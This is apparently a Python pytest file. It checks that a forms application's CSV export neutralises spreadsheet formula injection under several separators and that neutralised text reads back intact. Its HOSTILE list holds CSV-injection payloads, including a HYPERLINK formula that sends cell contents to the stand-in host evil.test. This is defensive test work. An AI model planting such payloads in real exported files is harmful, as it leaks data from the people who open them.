"""No program sees a formula in our files, whichever separator it reads with; and what was written is read back."""

import csv
import io
import random
import time

import pytest

from forms.answering.csv_formulas import inert, restored
from forms.answering.csv_template import rows_of_file, template
from tests.forms.answering.answering_desk import small_form

FORMULA = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
HOSTILE = [
    'x;=HYPERLINK("http://evil.test?"&A1);y',
    "x; =1",
    'x;"=1',
    'x;"""";=1',
    "x\t=1",
    "x\n=1",
    "x\r\n@SUM(A1)",
    "x;\u00a0+1",
    "x;\ufeff-1",
    "x;'=1",
    "'=1",
    "'t Hart",
    "=1",
    "\u3000=1",
    " \t=1",
]


def cells(texts: list[str], separator: str) -> list[str]:
    """Return the cells that a program with this separator sees in a line of these texts."""
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow(texts)
    return [cell for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator) for cell in row]


def looks_like_a_formula(cell: str) -> bool:
    return cell.strip(" \t\r\n\u00a0\u3000\ufeff").startswith(FORMULA)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_separator_makes_a_formula_of_a_text(text: str, separator: str) -> None:
    for seen in (cells(["Ann", inert(text), inert(text)], separator), cells([inert(text)], separator)):
        assert not [cell for cell in seen if looks_like_a_formula(cell)]


@pytest.mark.parametrize("text", [*HOSTILE, "a; b", "a-b; c=d", "1;2", "two\r\nlines", ""])
def test_what_was_made_inert_reads_back(text: str) -> None:
    assert restored(inert(text)) == text


@pytest.mark.parametrize("text", ["a; b", "a-b; c=d", 'says "x"', "Ann, Smit", "two\nlines", "a=b@example.org"])
def test_a_text_that_no_program_misreads_stays_as_it_is(text: str) -> None:
    assert inert(text) == text
    assert restored(text) == text


def test_texts_at_random_are_inert_and_read_back() -> None:
    chance = random.Random(20_300_304)
    for _ in range(5_000):
        text = "".join(chance.choices("a;\t\r\n \"'=-,", k=chance.randrange(12)))
        assert restored(inert(text)) == text
        for separator in ",;\t":
            seen = cells(["Ann", inert(text), "b"], separator)
            assert not [cell for cell in seen if looks_like_a_formula(cell)], (text, separator)


def test_a_long_run_of_blanks_takes_no_time() -> None:
    begun = time.perf_counter()
    for text in ("\n" * 200_000, "x" + "; " * 200_000, ";" + "'" * 200_000):
        assert restored(inert(text)) == text
    assert time.perf_counter() - begun < 1


def test_a_template_has_no_formula_behind_a_semicolon_and_knows_its_example() -> None:
    question = small_form("""
target: { type: user }
fields:
  - id: f
    type: csv
    columns:
      - { id: home, type: text, label: "Phone;=1", placeholder: "x; =1" }
      - { id: work, type: text, label: Work, placeholder: "'t Hart" }
operations: [{ id: a, do: directory.user.enable, for_each: $(f), with: { user: $(target) } }]
""").fields[0]
    text = template(question, "en").decode("utf-8-sig")
    assert text == "home,Work\r\nx; '=1,''t Hart\r\n"
    with pytest.raises(Exception, match="Row 2 is the example"):
        rows_of_file(question, text.encode())
    rows, _ = rows_of_file(question, b"home,Work\r\nx; '=1,'t Hoff\r\n")
    assert [(row["home"], row["work"]) for row in rows] == [("x; =1", "'t Hoff")]
